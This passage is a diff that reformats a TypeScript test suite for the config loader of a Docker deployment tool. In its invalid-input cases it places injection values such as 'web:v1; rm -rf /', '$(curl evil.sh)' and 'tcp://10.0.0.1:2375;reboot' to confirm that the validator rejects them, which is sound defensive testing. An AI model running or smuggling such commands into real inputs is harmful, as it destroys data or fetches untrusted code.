@@ -105,23 +105,65 @@ describe('valid files', () => {
     const [web, worker] = config.groups;
     expect(web.hosts).toEqual([
       { name: '10.210.0.11', group: 'web', endpoint: endpoint('tcp://10.210.0.11:2375'), address: '10.210.0.11' },
-      { name: 'web-2.example.com', group: 'web', endpoint: endpoint('ssh://deploy@web-2.example.com'), address: 'web-2.example.com' },
-      { name: 'web-3', group: 'web', endpoint: endpoint('tcp://web-3.example.com:2376'), address: '10.0.0.3', tls: { ca: CA, cert: CERT, key: KEY, verify: true } },
+      {
+        name: 'web-2.example.com',
+        group: 'web',
+        endpoint: endpoint('ssh://deploy@web-2.example.com'),
+        address: 'web-2.example.com',
+      },
+      {
+        name: 'web-3',
+        group: 'web',
+        endpoint: endpoint('tcp://web-3.example.com:2376'),
+        address: '10.0.0.3',
+        tls: { ca: CA, cert: CERT, key: KEY, verify: true },
+      },
     ]);
     expect(web.container).toEqual({
-      ports: ['8080:8080'], env: { APP_ENV: 'production' }, secretEnv: { DATABASE_URL: ENV.DATABASE_URL },
-      volumes: ['/srv/web/data:/data'], restart: 'unless-stopped', stopTimeoutMs: 10_000, labels: {},
+      ports: ['8080:8080'],
+      env: { APP_ENV: 'production' },
+      secretEnv: { DATABASE_URL: ENV.DATABASE_URL },
+      volumes: ['/srv/web/data:/data'],
+      restart: 'unless-stopped',
+      stopTimeoutMs: 10_000,
+      labels: {},
     });
-    expect(web.strategy).toEqual({ batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }], pauseMs: 0, maxUnhealthy: { count: 0 }, parallel: 32, keep: 3 });
+    expect(web.strategy).toEqual({
+      batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }],
+      pauseMs: 0,
+      maxUnhealthy: { count: 0 },
+      parallel: 32,
+      keep: 3,
+    });
     expect(web.health).toEqual({
-      http: { path: '/health', port: 8080, scheme: 'http', status: [200, 299], body: { text: 'ok' }, maxLatencyMs: 1000 },
-      tcp: { port: 8080 }, command: ['/bin/healthcheck'], dockerHealth: true,
-      startPeriodMs: 0, intervalMs: 1000, timeoutMs: 2000, healthyThreshold: 1, unhealthyThreshold: 3, deadlineMs: 60_000,
+      http: {
+        path: '/health',
+        port: 8080,
+        scheme: 'http',
+        status: [200, 299],
+        body: { text: 'ok' },
+        maxLatencyMs: 1000,
+      },
+      tcp: { port: 8080 },
+      command: ['/bin/healthcheck'],
+      dockerHealth: true,
+      startPeriodMs: 0,
+      intervalMs: 1000,
+      timeoutMs: 2000,
+      healthyThreshold: 1,
+      unhealthyThreshold: 3,
+      deadlineMs: 60_000,
     });
     // The worker names a check of its own: its checks replace the top-level ones, timings still apply.
     expect(worker.health).toEqual({
-      command: ['/app/bin/ready'], dockerHealth: true,
-      startPeriodMs: 0, intervalMs: 1000, timeoutMs: 2000, healthyThreshold: 1, unhealthyThreshold: 3, deadlineMs: 60_000,
+      command: ['/app/bin/ready'],
+      dockerHealth: true,
+      startPeriodMs: 0,
+      intervalMs: 1000,
+      timeoutMs: 2000,
+      healthyThreshold: 1,
+      unhealthyThreshold: 3,
+      deadlineMs: 60_000,
     });
     expect(worker.container).toEqual(web.container);
   });
@@ -132,14 +174,46 @@ describe('valid files', () => {
       image: 'registry.example.com/acme/web:v1',
       lockTimeoutMs: 120_000,
       lockWaitMs: 0,
-      strategy: { batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }], pauseMs: 0, maxUnhealthy: { count: 0 }, parallel: 32, keep: 3 },
-      groups: [{
-        name: 'web',
-        hosts: [{ name: '10.210.0.11', group: 'web', endpoint: endpoint('tcp://10.210.0.11:2375'), address: '10.210.0.11' }],
-        container: { ports: [], env: {}, secretEnv: {}, volumes: [], restart: 'unless-stopped', stopTimeoutMs: 10_000, labels: {} },
-        strategy: { batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }], pauseMs: 0, maxUnhealthy: { count: 0 }, parallel: 32, keep: 3 },
-        health: { dockerHealth: true, startPeriodMs: 0, intervalMs: 1000, timeoutMs: 2000, healthyThreshold: 1, unhealthyThreshold: 3, deadlineMs: 60_000 },
-      }],
+      strategy: {
+        batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }],
+        pauseMs: 0,
+        maxUnhealthy: { count: 0 },
+        parallel: 32,
+        keep: 3,
+      },
+      groups: [
+        {
+          name: 'web',
+          hosts: [
+            { name: '10.210.0.11', group: 'web', endpoint: endpoint('tcp://10.210.0.11:2375'), address: '10.210.0.11' },
+          ],
+          container: {
+            ports: [],
+            env: {},
+            secretEnv: {},
+            volumes: [],
+            restart: 'unless-stopped',
+            stopTimeoutMs: 10_000,
+            labels: {},
+          },
+          strategy: {
+            batches: [{ count: 1 }, { percent: 25 }, { percent: 100 }],
+            pauseMs: 0,
+            maxUnhealthy: { count: 0 },
+            parallel: 32,
+            keep: 3,
+          },
+          health: {
+            dockerHealth: true,
+            startPeriodMs: 0,
+            intervalMs: 1000,
+            timeoutMs: 2000,
+            healthyThreshold: 1,
+            unhealthyThreshold: 3,
+            deadlineMs: 60_000,
+          },
+        },
+      ],
     });
   });
 
@@ -194,8 +268,23 @@ groups:
       restart: 'on-failure',
       stopTimeoutMs: 20_000,
     });
-    expect(jobs.strategy).toEqual({ batches: [{ percent: 100 }], pauseMs: 10_000, maxUnhealthy: { count: 0 }, parallel: 8, keep: 1 });
-    expect(jobs.health).toEqual({ tcp: { port: 9000 }, dockerHealth: true, startPeriodMs: 0, intervalMs: 2000, timeoutMs: 2000, healthyThreshold: 1, unhealthyThreshold: 3, deadlineMs: 120_000 });
+    expect(jobs.strategy).toEqual({
+      batches: [{ percent: 100 }],
+      pauseMs: 10_000,
+      maxUnhealthy: { count: 0 },
+      parallel: 8,
+      keep: 1,
+    });
+    expect(jobs.health).toEqual({
+      tcp: { port: 9000 },
+      dockerHealth: true,
+      startPeriodMs: 0,
+      intervalMs: 2000,
+      timeoutMs: 2000,
+      healthyThreshold: 1,
+      unhealthyThreshold: 3,
+      deadlineMs: 120_000,
+    });
     expect(web.health.http).toEqual({ path: '/health', port: 8080, scheme: 'http', status: [200, 299] });
     expect(web.health.deadlineMs).toBe(90_000);
     expect(config.strategy.parallel).toBe(8);
@@ -208,16 +297,31 @@ groups:
   });
 
   test('deploy inputs win over the file, for the top level and every group', () => {
-    const text = DESIGN_EXAMPLE.replace('health: {command: ["/app/bin/ready"]}', 'strategy: {batches: [2], parallel: 2}');
+    const text = DESIGN_EXAMPLE.replace(
+      'health: {command: ["/app/bin/ready"]}',
+      'strategy: {batches: [2], parallel: 2}',
+    );
     const overrides: ConfigOverrides = {
-      image: 'registry.example.com/acme/web:v9', groups: ['worker'], batches: '1, 50%', parallel: '4',
-      maxUnhealthy: '10%', pause: '30s', keep: '5', lockTimeout: '10m',
+      image: 'registry.example.com/acme/web:v9',
+      groups: ['worker'],
+      batches: '1, 50%',
+      parallel: '4',
+      maxUnhealthy: '10%',
+      pause: '30s',
+      keep: '5',
+      lockTimeout: '10m',
     };
     const config = load(text, { overrides });
     expect(config.image).toBe('registry.example.com/acme/web:v9');
     expect(config.lockTimeoutMs).toBe(600_000);
     expect(config.groups.map((g) => g.name)).toEqual(['worker']);
-    const expected = { batches: [{ count: 1 }, { percent: 50 }], pauseMs: 30_000, maxUnhealthy: { percent: 10 }, parallel: 4, keep: 5 };
+    const expected = {
+      batches: [{ count: 1 }, { percent: 50 }],
+      pauseMs: 30_000,
+      maxUnhealthy: { percent: 10 },
+      parallel: 4,
+      keep: 5,
+    };
     expect(config.groups[0].strategy).toEqual(expected);
     expect(config.strategy).toEqual(expected);
   });
@@ -254,22 +358,28 @@ groups:
   });
 
   test('without a file image, a whole reference in the input is enough', () => {
-    expect(load(minimalWith('image', undefined), { overrides: { image: 'registry.example.com/acme/web:v3' } }).image).toBe('registry.example.com/acme/web:v3');
+    expect(
+      load(minimalWith('image', undefined), { overrides: { image: 'registry.example.com/acme/web:v3' } }).image,
+    ).toBe('registry.example.com/acme/web:v3');
   });
 
   test('a rollback to the previous version needs no tag', () => {
-    expect(load(minimalWith('image', 'registry.example.com/acme/web'), { requireImageVersion: false }).image).toBe('registry.example.com/acme/web');
+    expect(load(minimalWith('image', 'registry.example.com/acme/web'), { requireImageVersion: false }).image).toBe(
+      'registry.example.com/acme/web',
+    );
   });
 
   test('host names and addresses default from the endpoint; two endpoints on one host get their port', () => {
-    const config = load(minimalWith('groups.web.hosts', [
-      'unix:///var/run/docker.sock',
-      'tcp://10.0.0.5:2375',
-      'tcp://10.0.0.5:2376',
-      'ssh://deploy@Web-1.Example.com:2222',
-      'tcp://[fd00::1]:2375',
-      { docker: 'ssh://deploy@10.0.0.9', name: 'db-primary', address: '[fd00::9]' },
-    ]));
+    const config = load(
+      minimalWith('groups.web.hosts', [
+        'unix:///var/run/docker.sock',
+        'tcp://10.0.0.5:2375',
+        'tcp://10.0.0.5:2376',
+        'ssh://deploy@Web-1.Example.com:2222',
+        'tcp://[fd00::1]:2375',
+        { docker: 'ssh://deploy@10.0.0.9', name: 'db-primary', address: '[fd00::9]' },
+      ]),
+    );
     expect(config.groups[0].hosts.map((h) => [h.name, formatEndpoint(h.endpoint), h.address])).toEqual([
       ['localhost', 'unix:///var/run/docker.sock', '127.0.0.1'],
       ['10.0.0.5:2375', 'tcp://10.0.0.5:2375', '10.0.0.5'],
@@ -287,12 +397,21 @@ groups:
       fs.writeFileSync(path.join(dir, 'certs/ca.pem'), CA);
       fs.writeFileSync(path.join(dir, 'key.pem'), KEY);
       const file = path.join(dir, 'aviary.yml');
-      fs.writeFileSync(file, minimalWith('groups.web.hosts', [
-        { docker: 'tcp://10.0.0.1:2376', tls: { ca: 'certs/ca.pem', cert: 'CERT_PEM', key: path.join(dir, 'key.pem') } },
-        { docker: 'tcp://10.0.0.2:2376', tls: { verify: false } },
-      ]));
+      fs.writeFileSync(
+        file,
+        minimalWith('groups.web.hosts', [
+          {
+            docker: 'tcp://10.0.0.1:2376',
+            tls: { ca: 'certs/ca.pem', cert: 'CERT_PEM', key: path.join(dir, 'key.pem') },
+          },
+          { docker: 'tcp://10.0.0.2:2376', tls: { verify: false } },
+        ]),
+      );
       const config = loadConfig({ path: file, env: ENV });
-      expect(config.groups[0].hosts.map((h) => h.tls)).toEqual([{ ca: CA, cert: CERT, key: KEY, verify: true }, { verify: false }]);
+      expect(config.groups[0].hosts.map((h) => h.tls)).toEqual([
+        { ca: CA, cert: CERT, key: KEY, verify: true },
+        { verify: false },
+      ]);
       expect(configSecrets(config)).toEqual([KEY]);
     } finally {
       fs.rmSync(dir, { recursive: true, force: true });
@@ -305,14 +424,21 @@ groups:
   });
 
   test('gates and hooks are validated with the rest, every problem naming its field', () => {
-    expect(problemsOf(MINIMAL + '    gates: [{anything: 1}]\ngates: [{prometheus: {url: "http://p:9090"}}]\nhooks: {pre-deploy: ["/x"]}\n')).toEqual([
+    expect(
+      problemsOf(
+        MINIMAL +
+          '    gates: [{anything: 1}]\ngates: [{prometheus: {url: "http://p:9090"}}]\nhooks: {pre-deploy: ["/x"]}\n',
+      ),
+    ).toEqual([
       'groups.web.gates[0].anything: is not a known field (expected one of: name, prometheus, http, max, min, condition, for, interval, failure-limit, no-data, timeout, fresh)',
       'groups.web.gates[0]: has no source (expected prometheus: {url, query} or http: {url, path})',
       'gates[0].prometheus.query: is missing (expected a PromQL query like "sum(rate(http_errors_total[1m]))")',
       'hooks.pre-deploy: is not a known field (expected one of: before-stop, after-healthy)',
     ]);
     const { raw, config } = loadConfigWithRaw({
-      text: MINIMAL + 'gates: [{prometheus: {url: "http://p:9090", query: "up"}, min: 1}]\nhooks: {before-stop: ["/x", "{{host}}"]}\n',
+      text:
+        MINIMAL +
+        'gates: [{prometheus: {url: "http://p:9090", query: "up"}, min: 1}]\nhooks: {before-stop: ["/x", "{{host}}"]}\n',
       env: {},
     });
     expect(config.groups[0].gates).toHaveLength(1);
@@ -321,13 +447,20 @@ groups:
   });
 
   test.each([
-    [200, [200, 200]], ['200', [200, 200]], ['200-299', [200, 299]], ['2xx', [200, 299]], ['301 - 302', [301, 302]],
+    [200, [200, 200]],
+    ['200', [200, 200]],
+    ['200-299', [200, 299]],
+    ['2xx', [200, 299]],
+    ['301 - 302', [301, 302]],
   ])('http status %j', (status, expected) => {
     expect(load(minimalWith('health', { http: { port: 80, status } })).groups[0].health.http?.status).toEqual(expected);
   });
 
   test.each([
-    ['ports', ['80', '8080:80', '127.0.0.1:8080:80/tcp', '[::1]:53:53/udp', '127.0.0.1::80', '8000-8010:8000-8010', 9090]],
+    [
+      'ports',
+      ['80', '8080:80', '127.0.0.1:8080:80/tcp', '[::1]:53:53/udp', '127.0.0.1::80', '8000-8010:8000-8010', 9090],
+    ],
     ['volumes', ['/srv/data:/data', 'named:/data:ro', '/etc/app:/etc/app:rw']],
   ])('container.%s accepts Docker syntax', (field, value) => {
     expect(() => load(minimalWith(`container.${field}`, value))).not.toThrow();
@@ -340,61 +473,246 @@ groups:
   });
 
   test('env values may be numbers and booleans; they become strings', () => {
-    expect(load(minimalWith('container.env', { PORT: 8080, DEBUG: false, EMPTY: '' })).groups[0].container.env).toEqual({ PORT: '8080', DEBUG: 'false', EMPTY: '' });
+    expect(load(minimalWith('container.env', { PORT: 8080, DEBUG: false, EMPTY: '' })).groups[0].container.env).toEqual(
+      { PORT: '8080', DEBUG: 'false', EMPTY: '' },
+    );
   });
 });
 
 describe('invalid files', () => {
   test.each([
-    ['service', 'Web', 'service: "Web" is not a service name like "web" (lowercase letters, digits, ".", "_" and "-"; at most 63 characters)'],
+    [
+      'service',
+      'Web',
+      'service: "Web" is not a service name like "web" (lowercase letters, digits, ".", "_" and "-"; at most 63 characters)',
+    ],
     ['service', undefined, 'service: is missing (expected a service name like "web")'],
-    ['service', 'web\u0007', 'service: "web\\u0007" contains control characters (expected a service name like "web" (lowercase letters, digits, ".", "_" and "-"; at most 63 characters))'],
-    ['image', 'registry.example.com/Acme/web:v1', 'image: "registry.example.com/Acme/web:v1" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)'],
-    ['image', 'web:v1; rm -rf /', 'image: "web:v1; rm -rf /" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)'],
-    ['image', '$(curl evil.sh)', 'image: "$(curl evil.sh)" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)'],
-    ['image', 'registry.example.com/acme/web', 'input image: is missing (expected a tag like "v2" or a digest for registry.example.com/acme/web; the file gives only the repository)'],
-    ['image', undefined, 'image: is missing (expected an image repository like "registry.example.com/acme/web" (or a whole reference in input image))'],
-    ['groups', undefined, 'groups: is missing (expected a mapping of group names to groups, like {web: {hosts: [tcp://10.0.0.1:2375]}})'],
+    [
+      'service',
+      'web\u0007',
+      'service: "web\\u0007" contains control characters (expected a service name like "web" (lowercase letters, digits, ".", "_" and "-"; at most 63 characters))',
+    ],
+    [
+      'image',
+      'registry.example.com/Acme/web:v1',
+      'image: "registry.example.com/Acme/web:v1" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)',
+    ],
+    [
+      'image',
+      'web:v1; rm -rf /',
+      'image: "web:v1; rm -rf /" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)',
+    ],
+    [
+      'image',
+      '$(curl evil.sh)',
+      'image: "$(curl evil.sh)" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)',
+    ],
+    [
+      'image',
+      'registry.example.com/acme/web',
+      'input image: is missing (expected a tag like "v2" or a digest for registry.example.com/acme/web; the file gives only the repository)',
+    ],
+    [
+      'image',
+      undefined,
+      'image: is missing (expected an image repository like "registry.example.com/acme/web" (or a whole reference in input image))',
+    ],
+    [
+      'groups',
+      undefined,
+      'groups: is missing (expected a mapping of group names to groups, like {web: {hosts: [tcp://10.0.0.1:2375]}})',
+    ],
     ['groups', {}, 'groups: {} is not a mapping with at least one group'],
-    ['groups.Web', { hosts: ['tcp://10.0.0.2:2375'] }, 'groups.Web: "Web" is not a group name like "web" (lowercase letters, digits, "_" and "-"; at most 63 characters)'],
-    ['groups.web.hosts', [], 'groups.web.hosts: [] is not a list of hosts like [tcp://10.0.0.1:2375, ssh://deploy@web-2.example.com] (a group needs at least one host)'],
-    ['groups.web.hosts', 'tcp://10.0.0.1:2375', 'groups.web.hosts: "tcp://10.0.0.1:2375" is not a list of hosts like [tcp://10.0.0.1:2375, ssh://deploy@web-2.example.com]'],
-    ['groups.web.hosts', ['tcp://10.0.0.1'], 'groups.web.hosts[0]: "tcp://10.0.0.1" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"'],
-    ['groups.web.hosts', ['ssh://web-1.example.com'], 'groups.web.hosts[0]: "ssh://web-1.example.com" is not an ssh endpoint with a user and a host, like "ssh://deploy@web-1.example.com" or "ssh://deploy@10.0.0.1:2222"'],
-    ['groups.web.hosts', ['unix://var/run/docker.sock'], 'groups.web.hosts[0]: "unix://var/run/docker.sock" is not a unix socket endpoint with an absolute path, like "unix:///var/run/docker.sock"'],
-    ['groups.web.hosts', ['http://10.0.0.1:2375'], 'groups.web.hosts[0]: "http://10.0.0.1:2375" is not a Docker endpoint like "tcp://10.0.0.1:2375", "ssh://deploy@web-1.example.com" or "unix:///var/run/docker.sock"'],
-    ['groups.web.hosts', ['tcp://10.0.0.256:2375'], 'groups.web.hosts[0]: "tcp://10.0.0.256:2375" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"'],
-    ['groups.web.hosts', ['tcp://10.0.0.1:2375;reboot'], 'groups.web.hosts[0]: "tcp://10.0.0.1:2375;reboot" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"'],
-    ['groups.web.hosts', ['tcp://10.0.0.1:2375', 'tcp://10.0.0.1:2375'], 'groups.web.hosts[1]: "tcp://10.0.0.1:2375" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)'],
-    ['groups.web.hosts', ['ssh://a@web-1', 'ssh://b@WEB-1:22'], 'groups.web.hosts[1]: "ssh://b@WEB-1:22" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)'],
-    ['groups.web.hosts', [{ name: 'a', docker: 'tcp://10.0.0.1:2375' }, { name: 'a', docker: 'tcp://10.0.0.2:2375' }], 'groups.web.hosts[1]: the host name "a" is also the name of groups.web.hosts[0] (host names must be unique; set name:)'],
-    ['groups.web.hosts', [{ docker: 'tcp://10.0.0.1:2375', address: 'not an address' }], 'groups.web.hosts[0].address: "not an address" is not a host name or an IP address like "10.0.0.3"'],
-    ['groups.web.hosts', [{ docker: 'tcp://10.0.0.1:2375', port: 22 }], 'groups.web.hosts[0].port: is not a known field (expected one of: name, docker, address, tls)'],
-    ['groups.web.hosts', [{ name: 'x' }], 'groups.web.hosts[0].docker: is missing (expected a Docker endpoint like "tcp://10.0.0.1:2375")'],
-    ['groups.web.hosts', [{ docker: 'ssh://deploy@web-1', tls: { verify: false } }], 'groups.web.hosts[0].tls: is only for tcp:// endpoints (this host\'s endpoint is ssh://)'],
-    ['groups.web.hosts', [{ docker: 'tcp://web-1:2376', tls: { ca: 'MISSING_CA' } }], 'groups.web.hosts[0].tls.ca: environment variable MISSING_CA is not set (expected it to hold PEM text)'],
-    ['groups.web.hosts', [{ docker: 'tcp://web-1:2376', tls: { ca: 'DATABASE_URL' } }], 'groups.web.hosts[0].tls.ca: environment variable DATABASE_URL does not hold PEM text (expected "-----BEGIN …")'],
-    ['groups.web.hosts', [{ docker: 'tcp://web-1:2376', tls: { ca: 'certs/ca.pem' } }], 'groups.web.hosts[0].tls.ca: file "certs/ca.pem" was not found (looked for /nonexistent/certs/ca.pem; expected a PEM file, or an environment variable name like CA_PEM)'],
-    ['groups.web.hosts', [{ docker: 'tcp://web-1:2376', tls: { cert: 'CERT_PEM' } }], 'groups.web.hosts[0].tls: cert and key go together (expected both or neither)'],
-    ['groups.web.hosts', [{ docker: 'tcp://web-1:2376', tls: { cert: 'CERT_PEM', key: KEY } }], 'groups.web.hosts[0].tls.key: a private key must not be written in the config file (expected a file path or an environment variable name)'],
-    ['groups.web.hosts', [{ docker: 'tcp://web-1:2376', tls: { verify: 'no' } }], 'groups.web.hosts[0].tls.verify: "no" is not true or false'],
-    ['groups.web.healthcheck', {}, 'groups.web.healthcheck: is not a known field (expected one of: hosts, container, strategy, health, gates, hooks, proxy)'],
-    ['container.ports', ['70000:80'], 'container.ports[0]: "70000:80" is not a port mapping like "8080:8080", "127.0.0.1:80:8080" or "53/udp" (ports are numbers from 1 to 65535, ranges low-high)'],
-    ['container.ports', ['80:80/http'], 'container.ports[0]: "80:80/http" is not a port mapping like "8080:8080", "127.0.0.1:80:8080" or "53/udp" (the protocol must be tcp, udp or sctp)'],
-    ['container.volumes', ['/srv:data'], 'container.volumes[0]: "/srv:data" is not a volume like "/srv/data:/data", "data:/data" or "/srv/conf:/etc/app:ro" (source:absolute-destination[:ro|rw])'],
-    ['container.volumes', ['./data:/data'], 'container.volumes[0]: "./data:/data" is not a volume like "/srv/data:/data", "data:/data" or "/srv/conf:/etc/app:ro" (source:absolute-destination[:ro|rw])'],
-    ['container.env', { '1X': 'a' }, 'container.env.1X: "1X" is not a variable name like APP_ENV (letters, digits and "_", not starting with a digit)'],
+    [
+      'groups.Web',
+      { hosts: ['tcp://10.0.0.2:2375'] },
+      'groups.Web: "Web" is not a group name like "web" (lowercase letters, digits, "_" and "-"; at most 63 characters)',
+    ],
+    [
+      'groups.web.hosts',
+      [],
+      'groups.web.hosts: [] is not a list of hosts like [tcp://10.0.0.1:2375, ssh://deploy@web-2.example.com] (a group needs at least one host)',
+    ],
+    [
+      'groups.web.hosts',
+      'tcp://10.0.0.1:2375',
+      'groups.web.hosts: "tcp://10.0.0.1:2375" is not a list of hosts like [tcp://10.0.0.1:2375, ssh://deploy@web-2.example.com]',
+    ],
+    [
+      'groups.web.hosts',
+      ['tcp://10.0.0.1'],
+      'groups.web.hosts[0]: "tcp://10.0.0.1" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"',
+    ],
+    [
+      'groups.web.hosts',
+      ['ssh://web-1.example.com'],
+      'groups.web.hosts[0]: "ssh://web-1.example.com" is not an ssh endpoint with a user and a host, like "ssh://deploy@web-1.example.com" or "ssh://deploy@10.0.0.1:2222"',
+    ],
+    [
+      'groups.web.hosts',
+      ['unix://var/run/docker.sock'],
+      'groups.web.hosts[0]: "unix://var/run/docker.sock" is not a unix socket endpoint with an absolute path, like "unix:///var/run/docker.sock"',
+    ],
+    [
+      'groups.web.hosts',
+      ['http://10.0.0.1:2375'],
+      'groups.web.hosts[0]: "http://10.0.0.1:2375" is not a Docker endpoint like "tcp://10.0.0.1:2375", "ssh://deploy@web-1.example.com" or "unix:///var/run/docker.sock"',
+    ],
+    [
+      'groups.web.hosts',
+      ['tcp://10.0.0.256:2375'],
+      'groups.web.hosts[0]: "tcp://10.0.0.256:2375" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"',
+    ],
+    [
+      'groups.web.hosts',
+      ['tcp://10.0.0.1:2375;reboot'],
+      'groups.web.hosts[0]: "tcp://10.0.0.1:2375;reboot" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"',
+    ],
+    [
+      'groups.web.hosts',
+      ['tcp://10.0.0.1:2375', 'tcp://10.0.0.1:2375'],
+      'groups.web.hosts[1]: "tcp://10.0.0.1:2375" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)',
+    ],
+    [
+      'groups.web.hosts',
+      ['ssh://a@web-1', 'ssh://b@WEB-1:22'],
+      'groups.web.hosts[1]: "ssh://b@WEB-1:22" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)',
+    ],
+    [
+      'groups.web.hosts',
+      [
+        { name: 'a', docker: 'tcp://10.0.0.1:2375' },
+        { name: 'a', docker: 'tcp://10.0.0.2:2375' },
+      ],
+      'groups.web.hosts[1]: the host name "a" is also the name of groups.web.hosts[0] (host names must be unique; set name:)',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://10.0.0.1:2375', address: 'not an address' }],
+      'groups.web.hosts[0].address: "not an address" is not a host name or an IP address like "10.0.0.3"',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://10.0.0.1:2375', port: 22 }],
+      'groups.web.hosts[0].port: is not a known field (expected one of: name, docker, address, tls)',
+    ],
+    [
+      'groups.web.hosts',
+      [{ name: 'x' }],
+      'groups.web.hosts[0].docker: is missing (expected a Docker endpoint like "tcp://10.0.0.1:2375")',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'ssh://deploy@web-1', tls: { verify: false } }],
+      "groups.web.hosts[0].tls: is only for tcp:// endpoints (this host's endpoint is ssh://)",
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://web-1:2376', tls: { ca: 'MISSING_CA' } }],
+      'groups.web.hosts[0].tls.ca: environment variable MISSING_CA is not set (expected it to hold PEM text)',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://web-1:2376', tls: { ca: 'DATABASE_URL' } }],
+      'groups.web.hosts[0].tls.ca: environment variable DATABASE_URL does not hold PEM text (expected "-----BEGIN …")',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://web-1:2376', tls: { ca: 'certs/ca.pem' } }],
+      'groups.web.hosts[0].tls.ca: file "certs/ca.pem" was not found (looked for /nonexistent/certs/ca.pem; expected a PEM file, or an environment variable name like CA_PEM)',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://web-1:2376', tls: { cert: 'CERT_PEM' } }],
+      'groups.web.hosts[0].tls: cert and key go together (expected both or neither)',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://web-1:2376', tls: { cert: 'CERT_PEM', key: KEY } }],
+      'groups.web.hosts[0].tls.key: a private key must not be written in the config file (expected a file path or an environment variable name)',
+    ],
+    [
+      'groups.web.hosts',
+      [{ docker: 'tcp://web-1:2376', tls: { verify: 'no' } }],
+      'groups.web.hosts[0].tls.verify: "no" is not true or false',
+    ],
+    [
+      'groups.web.healthcheck',
+      {},
+      'groups.web.healthcheck: is not a known field (expected one of: hosts, container, strategy, health, gates, hooks, proxy)',
+    ],
+    [
+      'container.ports',
+      ['70000:80'],
+      'container.ports[0]: "70000:80" is not a port mapping like "8080:8080", "127.0.0.1:80:8080" or "53/udp" (ports are numbers from 1 to 65535, ranges low-high)',
+    ],
+    [
+      'container.ports',
+      ['80:80/http'],
+      'container.ports[0]: "80:80/http" is not a port mapping like "8080:8080", "127.0.0.1:80:8080" or "53/udp" (the protocol must be tcp, udp or sctp)',
+    ],
+    [
+      'container.volumes',
+      ['/srv:data'],
+      'container.volumes[0]: "/srv:data" is not a volume like "/srv/data:/data", "data:/data" or "/srv/conf:/etc/app:ro" (source:absolute-destination[:ro|rw])',
+    ],
+    [
+      'container.volumes',
+      ['./data:/data'],
+      'container.volumes[0]: "./data:/data" is not a volume like "/srv/data:/data", "data:/data" or "/srv/conf:/etc/app:ro" (source:absolute-destination[:ro|rw])',
+    ],
+    [
+      'container.env',
+      { '1X': 'a' },
+      'container.env.1X: "1X" is not a variable name like APP_ENV (letters, digits and "_", not starting with a digit)',
+    ],
     ['container.env', { A: null }, 'container.env.A: null is not a string, a number or true/false'],
-    ['container.env', ['A=1'], 'container.env: ["A=1"] is not a mapping of variable names to values, like {APP_ENV: production}'],
-    ['container.secret-env', ['NOT_SET'], 'container.secret-env[0]: environment variable NOT_SET is not set (expected its value in the step\'s env, e.g. NOT_SET: ${{ secrets.NOT_SET }})'],
-    ['container.secret-env', 'DATABASE_URL', 'container.secret-env: "DATABASE_URL" is not a list of variable names like [DATABASE_URL]'],
-    ['container.restart', 'sometimes', 'container.restart: "sometimes" is not one of no, always, unless-stopped, on-failure'],
-    ['container.stop-timeout', '-5s', 'container.stop-timeout: "-5s" is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)'],
-    ['container.command', '/app/server --port 8080', 'container.command: "/app/server --port 8080" is not a list of strings like ["/app/server", "--port", "8080"] (no shell runs it: write each argument as its own item)'],
-    ['container.labels', { 'aviary.service': 'x' }, 'container.labels["aviary.service"]: "aviary.service" is not a label of your own (aviary.* labels hold the deploy record and are written by aviary)'],
+    [
+      'container.env',
+      ['A=1'],
+      'container.env: ["A=1"] is not a mapping of variable names to values, like {APP_ENV: production}',
+    ],
+    [
+      'container.secret-env',
+      ['NOT_SET'],
+      "container.secret-env[0]: environment variable NOT_SET is not set (expected its value in the step's env, e.g. NOT_SET: ${{ secrets.NOT_SET }})",
+    ],
+    [
+      'container.secret-env',
+      'DATABASE_URL',
+      'container.secret-env: "DATABASE_URL" is not a list of variable names like [DATABASE_URL]',
+    ],
+    [
+      'container.restart',
+      'sometimes',
+      'container.restart: "sometimes" is not one of no, always, unless-stopped, on-failure',
+    ],
+    [
+      'container.stop-timeout',
+      '-5s',
+      'container.stop-timeout: "-5s" is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)',
+    ],
+    [
+      'container.command',
+      '/app/server --port 8080',
+      'container.command: "/app/server --port 8080" is not a list of strings like ["/app/server", "--port", "8080"] (no shell runs it: write each argument as its own item)',
+    ],
+    [
+      'container.labels',
+      { 'aviary.service': 'x' },
+      'container.labels["aviary.service"]: "aviary.service" is not a label of your own (aviary.* labels hold the deploy record and are written by aviary)',
+    ],
     ['container.network', 'my net', 'container.network: "my net" is not a Docker network name like "web"'],
-    ['container.ports', 'x'.repeat(5000), `container.ports: "${'x'.repeat(75)}…" is not a list of port mappings like ["8080:8080"]`],
